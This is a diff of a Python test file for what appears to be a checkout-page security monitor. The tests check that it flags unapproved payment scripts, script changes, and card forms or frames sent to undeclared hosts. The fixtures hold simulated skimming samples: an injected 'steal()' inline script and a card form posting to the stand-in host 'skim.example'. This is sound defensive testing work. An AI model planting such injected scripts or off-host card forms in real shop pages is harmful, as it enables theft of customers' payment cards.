@@ -313,8 +313,51 @@ def test_a_foreign_script_without_integrity_is_told(world: World) -> None:
     world.shop.page = f'<script src="https://{ALLOWED}:{port}/checkout/pay.js"></script>'
     # The gateway answers another Host with 421, so the script cannot be read.
     found = world.findings()
-    assert {f.status for f in found.values()} == {Status.NOT_OBSERVED}
+    assert (
+        f"{ALLOWED}:{port}/checkout/pay.js (not read: " in found["payment-script-unapproved"].found
+    )
+    assert {rule: finding.status for rule, finding in found.items()} == {
+        "payment-script-unapproved": Status.VIOLATED,
+        "payment-script-unpinned": Status.VIOLATED,
+        "payment-script-changed": Status.NOT_OBSERVED,
+    }
     assert "answered 421" in found["payment-script-changed"].found
+    with pytest.raises(PeerError, match="answered 421"):
+        world.approve("all")
+
+
+def test_a_script_that_cannot_be_read_hides_no_other(world: World) -> None:
+    """
+    Of a page with a host that does not resolve, the rest is judged, changes too.
+    """
+    world.shop.page = "<script src='/checkout/pay.js'></script>"
+    world.approve("all")
+    world.shop.page += "<script src='https://gone.invalid/x.js'></script><script>steal()</script>"
+    found = world.findings()
+    assert "inline script sha256-" in found["payment-script-unapproved"].found
+    assert "gone.invalid/x.js (not read: " in found["payment-script-unapproved"].found
+    assert found["payment-script-changed"].status is Status.NOT_OBSERVED
+    world.shop.files["/checkout/pay.js"] = b"pay(2)"
+    changed = world.findings()["payment-script-changed"]
+    assert changed.status is Status.VIOLATED
+    assert "/checkout/pay.js" in changed.found
+
+
+def test_who_else_gets_the_card(world: World) -> None:
+    """
+    A frame and a form of another host are told, those of a declared one are not.
+    """
+    card = "<form method=post action={}><input name=cardnumber></form>"
+    world.shop.page = card.format("https://skim.example/in") + "<iframe src=//f.example/></iframe>"
+    told = world.findings()["payment-elsewhere"].found
+    assert "card to https://skim.example/in" in told
+    assert "frame from https://f.example/" in told
+    paid = PaymentGateway("Example Pay", (Upstream("https", "pay.example", 443),))
+    declared = replace(world.gateway.inventory, payment_gateways=(paid,))
+    world.shop.page = card.format("https://pay.example/in")
+    assert world.findings()["payment-elsewhere"].asset.id == ASSET
+    # Where nobody pays, as far as is declared, it is still another host.
+    assert world.findings(declared)["payment-elsewhere"].asset.id != ASSET
 
 
 @pytest.mark.parametrize(
